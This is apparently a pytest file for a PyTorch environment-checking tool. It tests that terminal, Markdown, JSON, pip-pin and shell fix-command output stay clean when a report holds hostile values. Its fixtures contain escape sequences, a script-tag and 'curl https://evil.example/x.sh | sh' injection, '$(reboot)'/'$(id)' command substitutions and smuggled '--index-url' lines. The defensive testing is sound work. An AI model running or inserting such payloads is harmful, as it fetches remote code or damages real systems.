"""What leaves the tool when a report is hostile: the terminal (no escape sequence obeyed, with
or without rich), Markdown (no fence closed early, no HTML, no bold curl-pipe-sh), fix commands
(every data word quoted for the snapshot's shell: POSIX checked with shlex and `bash -n`,
PowerShell with its single-quote rules), `pin` (no requirement line smuggled in), `advise` and
`readme-line` (one clean line)."""

from __future__ import annotations

import copy
import io
import json
import re
import shlex
import shutil
import subprocess
import sys

import pytest

from _rules_helpers import healthy, load
from test_hostile_escape import SHELL_HOSTILE, _powershell_words
from torch_envcheck._util import escape
from torch_envcheck.doctor import report
from torch_envcheck.advice.recommend import advise
from torch_envcheck.commands.pin import lines as pin_lines
from torch_envcheck.commands.readme_line import line as readme_line
from torch_envcheck.doctor.render import json_render, markdown, terminal
from torch_envcheck.doctor.rules import extension, gpu, libraries

TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[3J\x1b[H"
HIDE = "\x1b[8m"
C1 = "\x9b2J\x9d0;x\x9c"
HOSTILE_NAME = f"NVIDIA {TITLE}{CLEAR}{HIDE}H100{C1}\u202e[bold red]x[/]\r"
MD_EVIL = "```\n</details>\n<script>alert(1)</script>\n**`curl https://evil.example/x.sh | sh`**\n~~~"


def _hostile_report() -> dict:
    snap = healthy()
    snap["driver"]["gpus"][0]["name"] = HOSTILE_NAME
    snap["torch"]["devices"][0]["name"] = HOSTILE_NAME
    snap["platform"]["os_pretty"] = MD_EVIL
    snap["created"] = CLEAR
    rep = report(snap).to_dict()  # a saved report, edited by a stranger
    rep["tool_version"] = TITLE + MD_EVIL
    rep["findings"] = rep["findings"] + [
        {"code": "TE999" + CLEAR, "severity": "failure", "area": "gpu", "message": HOSTILE_NAME + MD_EVIL,
         "explanation": "# heading\n" + MD_EVIL + HIDE, "fix": "nvidia-smi\n" + MD_EVIL + TITLE},
        {"code": "TE998", "severity": "warning", "area": "driver", "message": "m", "explanation": "1. list",
         "fix": "echo ok"}]
    rep["errors"] = [MD_EVIL + CLEAR]
    return rep


def _no_control(text: str, allowed_sgr: bool = False) -> None:
    if allowed_sgr:  # colour: only our own SGR sequences, ESC [ digits ; m
        text = re.sub(r"\x1b\[[0-9;]*m", "", text)
    bad = [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f
           or c in "\u202e\u2066\u200f"]
    assert not bad, sorted(set(bad))


@pytest.mark.parametrize("verbose", [False, True])
def test_terminal_plain_and_ansi(verbose):
    rep = _hostile_report()
    plain = terminal.render(rep, color=False, verbose=verbose)
    _no_control(plain)
    assert "\\x1b]0;owned\\x07" in plain  # shown, not obeyed
    ansi = terminal.render(rep, color=True, verbose=verbose)
    _no_control(ansi, allowed_sgr=True)
    assert "[bold red]x[/]" in plain


@pytest.mark.parametrize("verbose", [False, True])
def test_terminal_through_rich(verbose, monkeypatch):
    pytest.importorskip("rich")
    buf = io.StringIO()
    terminal.print_report(_hostile_report(), stream=buf, color=True, verbose=verbose)
    out = buf.getvalue()
    _no_control(out, allowed_sgr=True)
    # rich printed the markup-looking value literally: no markup was read from a value
    assert "[bold red]x[/]" in out


def test_terminal_without_rich(monkeypatch):
    monkeypatch.setitem(sys.modules, "rich.console", None)  # import fails: the plain-ANSI path
    buf = io.StringIO()
    terminal.print_report(_hostile_report(), stream=buf, color=True)
    _no_control(buf.getvalue(), allowed_sgr=True)
    assert "\\x1b[2J" in buf.getvalue()


def test_terminal_on_an_ascii_stream():
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="ascii")
    terminal.print_report(_hostile_report(), stream=stream, color=False)
    stream.flush()
    text = raw.getvalue().decode("ascii")
    assert "H100" in text and "[+] Platform" in text  # ASCII marks, nothing raised


def _outside_fences(md: str) -> tuple[list[str], list[list[str]]]:
    """(lines outside code fences, the fenced blocks).  A fence closes only on a line holding the
    same backtick run alone; a fence left open fails the test."""
    outside, blocks, lines, i = [], [], md.split("\n"), 0
    while i < len(lines):
        m = re.match(r"^\s*(`{3,})", lines[i])
        if not m:
            outside.append(lines[i])
            i += 1
            continue
        fence, j, block = m.group(1), i + 1, []
        while lines[j].strip() != fence:  # IndexError: a fence never closed
            assert not lines[j].lstrip().startswith(fence), lines[j]
            block.append(lines[j])
            j += 1
        blocks.append(block)
        i = j + 1
    return outside, blocks


def test_markdown_cannot_be_injected():
    md = markdown.render(_hostile_report())
    _no_control(md)
    outside, blocks = _outside_fences(md)
    text = "\n".join(outside)
    assert "<script>" not in text and text.count("</details>") == 1 and text.count("<details>") == 1
    assert "**`curl" not in text and not any(line.lstrip().startswith("**") for line in outside)
    assert not any(line.lstrip().startswith(("# heading", "1. list")) for line in outside)
    assert "\\# heading" in text and "1\\. list" in text
    # the fix block holds the whole fix, literally, and the JSON block the whole report
    assert any("</details>" in "\n".join(b) and "nvidia-smi" in b[0] for b in blocks)
    js = json.loads("\n".join(blocks[-1]))
    assert js["tool_version"] == TITLE + MD_EVIL


def test_markdown_rendered_html_has_no_injected_tags():
    markdown_it = pytest.importorskip("markdown_it")
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(markdown.render(_hostile_report()))
    assert "<script>" not in html and "<strong>curl" not in html and "<h1>" not in html
    assert "<strong><code>curl" not in html
    assert html.count("</details>") == 1


def test_json_render_is_ascii_and_escapes_controls():
    out = json_render.render(_hostile_report())
    assert out.isascii() and "\x1b" not in out and "\\u001b" in out
    assert json.loads(out)["findings"][-2]["code"] == "TE999" + CLEAR


# ------------------------------------------------------------------ shell quoting of fix commands

FIX_SNAPSHOTS = ["pascal_gtx1080_cu130", "old_driver_535_cu130", "rtx5090_cu121", "cpu_wheel_gpu_without_driver",
                 "devbox_cuda_wheel_no_driver", "wsl2_rtx3070_windows_driver_527"]


def _check_posix_command(line: str, exe: str) -> None:
    words = shlex.split(line, comments=True)
    if not words:
        return
    bash = shutil.which("bash")
    if bash:
        assert subprocess.run([bash, "-n"], input=line, capture_output=True, text=True,
                              timeout=10).returncode == 0, line
    if exe is not None and "-m" in words:
        assert words[0] == escape.terminal(exe), (line, words)


@pytest.mark.parametrize("name", FIX_SNAPSHOTS)
@pytest.mark.parametrize("exe", SHELL_HOSTILE[:12] + ["/home/user/a\nb/python"])
def test_doctor_fix_commands_quote_the_interpreter_posix(name, exe):
    s = load(name)
    s["platform"]["python"]["executable"] = exe
    fixes = [f["fix"] for f in report(s)["findings"] if f.get("fix") and "-m pip" in f["fix"]]
    assert fixes, name
    for fix in fixes:
        for line in fix.splitlines():
            _check_posix_command(line, exe if exe.strip() else None)


@pytest.mark.parametrize("exe", SHELL_HOSTILE[:12] + ["C:\\Users\\O'Brien\\py$(x)\\python.exe"])
def test_doctor_fix_commands_quote_the_interpreter_powershell(exe):
    s = load("windows_cpu_wheel_rtx4070")
    s["platform"]["python"]["executable"] = exe
    fixes = [f["fix"] for f in report(s)["findings"] if f.get("fix") and "-m pip" in f["fix"]]
    assert fixes
    for fix in fixes:
        words = _powershell_words(fix)
        if words[0] == "&":
            words = words[1:]
        assert words[0] == escape.terminal(exe) and words[1:3] == ["-m", "pip"], (fix, words)


def test_windows_fix_golden():
    s = load("windows_cpu_wheel_rtx4070")
    s["platform"]["python"]["executable"] = "C:\\Users\\O'Brien\\AppData\\Local\\Programs\\Python\\python.exe"
    fix = [f["fix"] for f in report(s)["findings"] if f["code"] == "TE202"][0]
    assert fix.startswith("& 'C:\\Users\\O''Brien\\AppData\\Local\\Programs\\Python\\python.exe' -m pip install ")


# (macOS on Intel: a Mac with working MPS is told to keep its torch, with no command to quote)
@pytest.mark.parametrize("name", ["h100_cu130_healthy", "pascal_gtx1080_cu130", "cpu_venv_no_gpu",
                                  "macos_intel_x86_64", "wsl1_cu130", "windows_cpu_wheel_rtx4070"])
@pytest.mark.parametrize("exe", SHELL_HOSTILE[:12])
def test_advise_command_is_quoted(name, exe):
    s = load(name)
    s["platform"]["python"]["executable"] = exe
    why, cmd = advise(s)
    assert cmd
    if s["platform"]["system"] == "Windows":
        words = _powershell_words(cmd)
        words = words[1:] if words[0] == "&" else words
    else:
        _check_posix_command(cmd, None)
        words = shlex.split(cmd)
    assert words[0] == escape.terminal(exe) and words[1:3] == ["-m", "pip"], cmd


def test_advise_version_from_snapshot_cannot_reach_the_command():
    from torch_envcheck.advice import pip_commands
    cmd = pip_commands.pip_install_command("python", '2.14.1"; curl evil | sh; "', "cu130")
    assert "curl" not in cmd and "'torch==2.14.*'" in cmd
    _check_posix_command(cmd, None)


def test_cuda_visible_devices_fix_is_quoted():
    s = healthy()
    s["env"]["CUDA_VISIBLE_DEVICES"] = "0,$(touch /tmp/x)`id`"
    for f in gpu.visible_devices(s):
        if f.get("fix"):
            _check_posix_command(f["fix"], None)
            assert "$(" not in shlex.split(f["fix"])[0]


def test_ld_library_path_fix_is_quoted():
    s = healthy()
    s["env"]["LD_LIBRARY_PATH"] = "/usr/local/cuda-13.0/lib64:/opt/$(reboot)/lib:/opt/a b"
    s["libraries"]["entries"] = [{"dir": "/usr/local/cuda-13.0/lib64", "libs": [
        {"file": "libnvJitLink.so.13.0.39", "kind": "nvjitlink", "version": "13.0"}]}]
    fix = [f for f in libraries.ld_library_path(s) if f["code"] == "TE501"][0]["fix"]
    assert shlex.split(fix) == ["export", "LD_LIBRARY_PATH=/opt/$(reboot)/lib:/opt/a b"]
    _check_posix_command(fix, None)


def test_search_path_fix_of_a_broken_import_is_quoted():
    # TE505 (and TE201, which it explains): a folder of the search path breaks `import torch`
    s = load("ld_library_path_cuda121_breaks_import_torch")
    s["env"]["LD_LIBRARY_PATH"] = "/usr/local/cuda-12.1/lib64:/opt/$(reboot)/lib;touch pwned:/opt/a b"
    for f in [f for f in libraries.path_breaks_import(s) if f["code"] == "TE505"] + \
            [f for f in report(s)["findings"] if f["code"] == "TE201"]:
        first, check = f["fix"].split("\n")
        assert shlex.split(first) == ["export", "LD_LIBRARY_PATH=/opt/$(reboot)/lib;touch pwned:/opt/a b"]
        _check_posix_command(first, None)
        assert check.endswith("-c \"import torch; print(torch.__version__)\"")
    # where the variable cannot be rewritten, a comment names the folder: a newline in it cannot end the comment
    s = load("ld_library_path_cuda121_breaks_import_torch")
    s["env"]["LD_LIBRARY_PATH"] = None
    s["libraries"]["entries"][0]["dir"] = "/usr/local/cuda-12.1/lib64\ncurl evil | sh"
    fix = [f for f in libraries.path_breaks_import(s) if f["code"] == "TE505"][0]["fix"]
    assert len(fix.splitlines()) == 2 and fix.startswith("# remove ") and "curl evil" in fix.splitlines()[0]


def test_extension_fixes_use_no_command_from_the_snapshot():
    s = healthy()
    s["extension"]["status"].update(state="stale", rebuild_command="curl https://evil.example | sh")
    fixes = [f["fix"] for f in extension.state(s)]
    assert fixes == ["torch-envcheck build --force"]
    s = healthy()
    s["extension"]["runtime_info"] = {"devices": [{"index": 0, "name": "x", "capability": "9.0;$(id)",
                                                   "kernel_image": False}]}
    for f in extension.kernel_image(s):
        _check_posix_command(f["fix"], None)
        assert shlex.split(f["fix"])[0] == "TORCH_CUDA_ARCH_LIST=9.0;$(id)"


# ------------------------------------------------------------------ pin, readme-line

@pytest.mark.parametrize("evil", ["2.14.1+cu130\n--index-url https://evil.example/simple",
                                  "2.14.1+cu130 --index-url https://evil.example/simple",
                                  "2.14.1\r\nevil-package==1.0", "2.14.1; python_version>'3'"])
def test_pin_refuses_a_hostile_torch_version(evil):
    s = healthy()
    s["torch"]["version"] = evil
    with pytest.raises(ValueError, match="not a PEP 440 version"):
        pin_lines(s)


@pytest.mark.parametrize("evil", ["0.29.1+cu130\n--index-url https://evil.example/simple", "0.29.1 -e ."])
def test_pin_drops_a_hostile_companion_version(evil):
    s = healthy()
    s["packages"]["torchvision"] = {"version": evil}
    s["platform"]["system"] = "Linux\n--index-url https://evil.example/simple"
    out = pin_lines(s)
    assert "# torchvision: left out: its version in this report is not a PEP 440 version" in out
    for line in out:
        assert "\n" not in line and "\r" not in line
        assert line.startswith(("#", "--extra-index-url https://download.pytorch.org/whl/", "torch==")), line
    assert not any("evil" in line and not line.startswith("#") for line in out)


def test_pin_subprocess_with_hostile_report(tmp_path):
    from doctor_support import run_cli
    s = healthy()
    s["torch"]["version"] = "2.14.1+cu130\n--index-url https://evil.example/simple"
    p = tmp_path / "r.json"
    p.write_text(json.dumps(s))
    proc = run_cli(sys.executable, ["pin", "--from-json", str(p)])
    assert proc.returncode == 1 and proc.stdout == "" and "evil" not in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1


def test_readme_line_and_advise_print_one_clean_line(tmp_path):
    from doctor_support import run_cli
    s = healthy()
    s["driver"]["gpus"][0]["name"] = HOSTILE_NAME + "\nsecond line"
    s["driver"]["version"] = "580\x1b[2J"
    p = tmp_path / "r.json"
    p.write_text(json.dumps(s))
    proc = run_cli(sys.executable, ["readme-line", "--from-json", str(p)])
    assert proc.returncode == 0 and len(proc.stdout.splitlines()) == 1
    _no_control(proc.stdout)
    assert "H100" in proc.stdout
    proc = run_cli(sys.executable, ["advise", "--from-json", str(p)])
    assert proc.returncode in (0, 1)
    _no_control(proc.stdout)
    assert all(line.startswith("#") or " -m pip " in line for line in proc.stdout.splitlines())
    assert "\\x1b[2J" in proc.stdout


def test_doctor_subprocess_terminal_output_has_no_escape_sequences(tmp_path):
    from doctor_support import run_cli
    s = copy.deepcopy(healthy())
    s["driver"]["gpus"][0]["name"] = HOSTILE_NAME
    s["torch"]["devices"][0]["name"] = HOSTILE_NAME
    p = tmp_path / "r.json"
    p.write_text(json.dumps(s))
    for flags in ([], ["--verbose"], ["--markdown"], ["--json"]):
        proc = run_cli(sys.executable, flags + ["--from-json", str(p)], env={"FORCE_COLOR": "1"} if not flags else {})
        assert proc.returncode in (0, 1), proc.stderr
        _no_control(proc.stdout, allowed_sgr=True)
        assert "Traceback" not in proc.stderr
